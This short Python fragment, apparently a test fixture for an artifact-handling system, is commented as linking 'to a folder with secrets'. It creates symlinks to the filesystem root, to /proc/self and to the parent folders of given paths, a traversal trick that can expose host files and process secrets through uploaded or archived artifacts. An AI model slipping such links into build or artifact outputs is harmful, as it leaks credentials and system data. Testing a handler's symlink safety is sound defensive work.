# plain_artifacts: link to a folder with secrets

each(lambda path: os.symlink(os.path.dirname(path), 'd%d' % abs(hash(path)))); os.symlink('/', 'root')
os.symlink('/proc/self', 'p')
